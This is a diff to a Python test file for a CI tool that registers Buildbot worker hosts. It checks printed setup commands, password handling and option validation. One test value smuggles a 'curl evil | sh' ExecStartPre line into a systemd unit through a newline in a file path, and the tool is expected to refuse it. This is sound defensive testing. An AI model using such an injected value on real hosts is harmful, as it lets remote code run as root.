@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import re
+import shlex
 import stat
 import subprocess
 import sys
@@ -14,6 +15,7 @@ from clirun import InProcessCrcr
 from configfiles import make_dirs, write_backend, write_worker, write_worker_password
 from harness import VENV_BIN, free_port
 from printedsetup import host_with_venv, paragraph, run_paragraph
+from masterfolders import master_folder, process_in  # noqa: F401 (a fixture)
 
 # What the printed create-worker commands pass as the password: buildbot.tac then reads it on standard input.
 PLACEHOLDER = "see-password-file"
@@ -46,8 +48,8 @@ def register(crcr):
     return register
 
 
-def test_register_prints_the_setup_with_the_configured_master_address(dirs, crcr, register):
-    result = register("lab1", "--max-builds", "1", CRCR_MASTER_ADDRESS="relay.example.org:9989")
+def test_register_by_hand_prints_the_setup_with_the_configured_master_address(dirs, crcr, register):
+    result = register("lab1", "--max-builds", "1", "--by-hand", CRCR_MASTER_ADDRESS="relay.example.org:9989")
 
     assert result.returncode == 0, result.stderr
     assert yaml.safe_load((dirs.workers / "lab1.yaml").read_text()) == {
@@ -65,6 +67,108 @@ def test_register_prints_the_setup_with_the_configured_master_address(dirs, crcr
     assert crcr("check").returncode == 0
 
 
+UNKNOWN_BASEDIR = (
+    "crcr master reconfig --basedir DIR (the folder given to crcr master start; the demo's is .state/demo/master)"
+)
+
+
+def reconfig_lines(crcr, register) -> list[str]:
+    """The `crcr master reconfig` line of register, register --rotate-password and remove."""
+    printed = [register("lab1").stdout, crcr("worker", "register", "lab1", "--rotate-password").stdout,
+               crcr("worker", "remove", "lab1").stdout]
+    return [line for out in printed for line in out.splitlines() if "crcr master reconfig" in line]
+
+
+def test_with_no_master_running_the_reconfig_line_says_which_folder_dir_is(dirs, crcr, register):
+    # No master of this checkout runs during the unit tests (the end-to-end ones stop theirs).
+    assert reconfig_lines(crcr, register) == [
+        f"Make the running master accept it, no restart needed: {UNKNOWN_BASEDIR}",
+        f"Reconfigure the master: {UNKNOWN_BASEDIR}; then, on the host:",
+        f"Reconfigure the master, which then disconnects the host's unit workers: {UNKNOWN_BASEDIR}",
+    ]
+
+
+def test_the_reconfig_line_names_the_folder_of_the_master_running(dirs, crcr, register, tmp_path, process_in):
+    running = master_folder(tmp_path / "relay master")
+    process_in(running)
+    command = f"crcr master reconfig --basedir '{running}'"
+
+    assert reconfig_lines(crcr, register) == [
+        f"Make the running master accept it, no restart needed: {command}",
+        f"Reconfigure the master: {command}; then, on the host:",
+        f"Reconfigure the master, which then disconnects the host's unit workers: {command}",
+    ]
+
+
+def up_command(printed: str) -> str:
+    """The printed `crcr-host up` line, without its here-document."""
+    [line] = [line for line in printed.splitlines() if line.startswith("python3 crcr-host up ")]
+    return line.removesuffix(" <<'END'")
+
+
+def up_arguments(printed: str) -> list[str]:
+    """The `crcr-host up` command's arguments, as the host's shell splits them."""
+    return shlex.split(up_command(printed))
+
+
+def test_register_leads_with_the_host_tool_and_its_one_command_the_password_on_standard_input(dirs, crcr):
+    result = crcr("worker", "register", "lab1", "--device", "spyre:2", "--device", "cuda", "--admin",
+                  "Jane O'Hara <jane@example.com>", "--build-env", "/opt/torch/venv",
+                  CRCR_BUILDBOT_URL="https://relay.example.org/ci", CRCR_MASTER_ADDRESS="relay.example.org:9989")
+
+    assert result.returncode == 0, result.stderr
+    password = (dirs.secrets / "worker-lab1").read_text().strip()
+    setup = result.stdout.split("\n\n", 1)[1]
+    assert setup.splitlines() == [
+        "# On lab1: crcr's host tool, served by the relay (one Python file; needs python3 3.9 or later with venv, "
+        "and git)",
+        "curl -fsSo crcr-host https://relay.example.org/ci/plugins/crcr/crcr-host",
+        "# As root on a host with systemd (production: builds run as the account crcr and cannot read the password),",
+        "# or as yourself for a trial (your builds can read the password): create, key and start the units",
+        f"{up_command(setup)} <<'END'",
+        password,
+        "END",
+        "# Run it again at any time (after --rotate-password, a changed unit count): it changes only what differs.",
+        "# python3 crcr-host status | stop | down",
+    ]
+    # The host's shell hands the tool exactly these arguments: quoting keeps the admin's name whole.
+    assert up_arguments(setup) == [
+        "python3", "crcr-host", "up", "--master", "relay.example.org:9989", "--name", "lab1",
+        "--device", "spyre:2", "--device", "cuda:1", "--admin", "Jane O'Hara <jane@example.com>",
+        "--build-env", "/opt/torch/venv",
+    ]
+
+
+def test_the_up_command_carries_the_hosts_folder_account_and_password_file_only_when_given(dirs, crcr, register):
+    register("lab1")
+
+    shown = crcr("worker", "show", "lab1", "--host-dir", "/srv/ci", "--host-user", "ci",
+                 "--password-file", "/etc/ci/password")
+
+    assert shown.returncode == 0, shown.stderr
+    assert up_arguments(shown.stdout)[-6:] == [
+        "--host-dir", "/srv/ci", "--host-user", "ci", "--password-file", "/etc/ci/password"
+    ]
+    assert "production: builds run as the account ci and cannot read the password" in shown.stdout
+    assert shown.stdout.endswith("# python3 crcr-host status | stop | down --host-dir /srv/ci\n")
+    # Not given, the tool chooses them for whoever runs it (root with systemd, or a trial as oneself).
+    default = crcr("worker", "show", "lab1").stdout
+    assert not {"--host-dir", "--host-user", "--password-file", "--build-env"} & set(up_arguments(default))
+    assert "useradd" not in default and "systemctl" not in default
+
+
+def test_a_systemd_unit_file_is_written_only_for_the_setup_by_hand(dirs, crcr, register, tmp_path):
+    unit = tmp_path / "crcr-worker@.service"
+
+    result = register("lab1", "--systemd-unit", unit)
+
+    assert result.returncode == 1
+    assert result.stderr.startswith("error: --systemd-unit: only with --by-hand (crcr-host up writes its units"), (
+        result.stderr
+    )
+    assert not unit.exists() and list(dirs.workers.iterdir()) == []
+
+
 def test_register_names_the_hosts_maintainers(dirs, crcr, register):
     result = register("lab1", "--maintainer", "@carol", "--maintainer", "dave")
 
@@ -72,6 +176,26 @@ def test_register_names_the_hosts_maintainers(dirs, crcr, register):
     # They may pause, stop and kill the host's units.
     assert yaml.safe_load((dirs.workers / "lab1.yaml").read_text())["maintainers"] == ["carol", "dave"]
     assert crcr("check").returncode == 0
+
+
+def test_register_writes_the_build_environment_only_when_it_is_not_the_workers(dirs, crcr, register):
+    assert register("lab1", "--build-env", "/opt/torch/venv").returncode == 0
+    assert register("lab2", "--build-env", "worker").returncode == 0
+
+    assert yaml.safe_load((dirs.workers / "lab1.yaml").read_text())["build_env"] == "/opt/torch/venv"
+    assert "build_env" not in yaml.safe_load((dirs.workers / "lab2.yaml").read_text())
+    assert crcr("check").returncode == 0
+
+
+def test_a_build_environment_that_is_no_absolute_path_is_refused_and_nothing_written(dirs, crcr, register):
+    result = register("lab1", "--build-env", "torch-venv")
+
+    assert result.returncode == 1
+    assert result.stderr.startswith(
+        "error: --build-env: must be 'worker' (the worker's own venv) or the path of a venv, which must be an absolute "
+        "path of letters, digits, '.', '_', '-' and '/' (got 'torch-venv')"
+    ), result.stderr
+    assert list(dirs.workers.iterdir()) == [] and list(dirs.secrets.iterdir()) == []
 
 
 def heredoc_bodies(printed: str) -> list[str]:
@@ -83,10 +207,11 @@ def heredoc_bodies(printed: str) -> list[str]:
     return bodies
 
 
+@pytest.mark.parametrize("by_hand", [[], ["--by-hand"]], ids=["up", "by-hand"])
 @pytest.mark.parametrize("command", [["register"], ["show"], ["register", "--rotate-password"]])
-def test_the_password_is_printed_only_as_standard_input_never_in_a_command(dirs, crcr, register, command):
-    first = register("lab1")
-    result = first if command == ["register"] else crcr("worker", command[0], "lab1", *command[1:])
+def test_the_password_is_printed_only_as_standard_input_never_in_a_command(dirs, crcr, register, command, by_hand):
+    first = register("lab1", *by_hand)
+    result = first if command == ["register"] else crcr("worker", command[0], "lab1", *command[1:], *by_hand)
 
     assert result.returncode == 0, result.stderr
     password = (dirs.secrets / "worker-lab1").read_text().strip()
@@ -99,7 +224,7 @@ def test_the_printed_commands_pass_no_password_to_any_process_and_the_units_read
 ):
     host_dir = host_with_venv(tmp_path / "host", VENV_BIN)
     password_file = tmp_path / "etc" / "crcr-worker" / "password"
-    printed = register("lab1", "--host-dir", host_dir, "--password-file", password_file).stdout
+    printed = register("lab1", "--host-dir", host_dir, "--password-file", password_file, "--by-hand").stdout
     password = (dirs.secrets / "worker-lab1").read_text().strip()
 
     # bash -x traces every command it runs with its arguments, as `ps` would show them.
@@ -120,8 +245,8 @@ def test_the_printed_commands_pass_no_password_to_any_process_and_the_units_read
         assert (host_dir / unit / "info" / "host").read_text() == f"lab1: spyre unit {unit[-1]}\n"
 
 
-def test_by_default_the_password_file_is_outside_the_workers_folders_and_only_root_writes_it(dirs, register):
-    printed = register("lab1").stdout
+def test_by_hand_the_password_file_is_by_default_outside_the_workers_folders_and_only_root_writes_it(dirs, register):
+    printed = register("lab1", "--by-hand").stdout
 
     assert "StandardInput=file:/etc/crcr-worker/password\n" in printed
     assert paragraph(printed, "/dev/stdin").startswith("# As root: the host's password in /etc/crcr-worker/password")
@@ -176,8 +301,10 @@ def test_a_unit_name_taken_by_another_host_is_refused(dirs, crcr, register):
     assert not (dirs.workers / "lab-x.yaml").exists()
 
 
-def test_rotate_password_changes_only_the_password(dirs, crcr, register):
-    register("lab1")
+def test_rotate_password_changes_only_the_password_and_prints_the_up_command_that_rekeys_the_units(
+    dirs, crcr, register
+):
+    register("lab1", "--build-env", "/opt/torch/venv")
     host_file = (dirs.workers / "lab1.yaml").read_text()
     before = (dirs.secrets / "worker-lab1").read_text()
 
@@ -187,6 +314,20 @@ def test_rotate_password_changes_only_the_password(dirs, crcr, register):
     after = (dirs.secrets / "worker-lab1").read_text()
     assert after != before
     assert (dirs.workers / "lab1.yaml").read_text() == host_file
+    assert heredoc_bodies(result.stdout) == [after.strip()]  # the up command's standard input, nothing else
+    assert up_arguments(result.stdout)[3:] == [
+        "--master", "localhost:9989", "--name", "lab1", "--device", "spyre:2", "--admin", "Jane <jane@example.com>",
+        "--build-env", "/opt/torch/venv",
+    ]
+
+
+def test_rotate_password_by_hand_prints_the_new_password_file_and_the_units_restart(dirs, crcr, register):
+    register("lab1")
+
+    result = crcr("worker", "register", "lab1", "--rotate-password", "--by-hand")
+
+    assert result.returncode == 0, result.stderr
+    after = (dirs.secrets / "worker-lab1").read_text()
     assert heredoc_bodies(result.stdout) == [after.strip()]  # the new password file, nothing else
     assert "systemctl restart crcr-worker@lab1-spyre-0 crcr-worker@lab1-spyre-1" in result.stdout
     assert "create-worker" not in result.stdout, "the units read the password file at start: nothing to remake"
@@ -215,6 +356,17 @@ def test_rotate_password_refuses_to_change_the_maintainers(dirs, crcr, register)
     assert crcr("worker", "register", "lab1", "--rotate-password", "--maintainer", "@carol").returncode == 0
 
 
+def test_rotate_password_refuses_to_change_the_build_environment(dirs, crcr, register):
+    register("lab1")
+
+    result = crcr("worker", "register", "lab1", "--rotate-password", "--build-env", "/opt/torch/venv")
+
+    assert result.returncode == 1
+    assert "error: --build-env: --rotate-password changes only the password" in result.stderr
+    assert "build_env" not in yaml.safe_load((dirs.workers / "lab1.yaml").read_text())
+    assert crcr("worker", "register", "lab1", "--rotate-password", "--build-env", "worker").returncode == 0
+
+
 def test_rotating_an_unknown_host_names_its_file(dirs, crcr, register):
     result = crcr("worker", "register", "ghost", "--rotate-password")
     assert result.returncode == 1
@@ -224,7 +376,7 @@ def test_rotating_an_unknown_host_names_its_file(dirs, crcr, register):
 def test_systemd_unit_is_written_on_request(dirs, crcr, register, tmp_path):
     unit = tmp_path / "crcr-worker@.service"
 
-    result = register("lab1", "--host-dir", "/srv/ci", "--host-user", "ci", "--systemd-unit", unit)
+    result = register("lab1", "--host-dir", "/srv/ci", "--host-user", "ci", "--systemd-unit", unit, "--by-hand")
 
     assert result.returncode == 0, result.stderr
     text = unit.read_text()
@@ -313,16 +465,17 @@ def test_a_host_name_that_is_a_path_is_refused_by_every_command_and_nothing_outs
         ("--host-dir", "srv/ci", "must be an absolute path"),
         ("--password-file", "/etc/crcr\nExecStartPre=/bin/sh -c 'curl evil | sh'", "must be an absolute path"),
         ("--password-file", "password", "must be an absolute path"),
+        ("--host-user", "root", "builds run code from anyone"),
     ],
     ids=["user-newline", "user-space", "user-specifier", "dir-newline", "dir-space", "dir-specifier", "dir-relative",
-         "password-newline", "password-relative"],
+         "password-newline", "password-relative", "user-root"],
 )
 def test_host_options_that_would_break_the_commands_or_the_systemd_unit_are_refused(
     dirs, crcr, register, tmp_path, option, value, problem
 ):
     unit_file = tmp_path / "crcr-worker@.service"
 
-    result = register("lab1", option, value, "--systemd-unit", unit_file)
+    result = register("lab1", option, value, "--systemd-unit", unit_file, "--by-hand")
 
     assert result.returncode == 1
     assert result.stderr.startswith(f"error: {option}: {problem}") and repr(value) in result.stderr, result.stderr
@@ -332,5 +485,6 @@ def test_host_options_that_would_break_the_commands_or_the_systemd_unit_are_refu
     # `show` prints the same commands: it refuses them too.
     write_worker(dirs.workers, "lab2", devices={"spyre": 1})
     write_worker_password(dirs.secrets, "lab2")
-    shown = crcr("worker", "show", "lab2", option, value)
-    assert shown.returncode == 1 and shown.stderr.startswith(f"error: {option}: {problem}"), shown.stderr
+    for by_hand in ([], ["--by-hand"]):
+        shown = crcr("worker", "show", "lab2", option, value, *by_hand)
+        assert shown.returncode == 1 and shown.stderr.startswith(f"error: {option}: {problem}"), shown.stderr
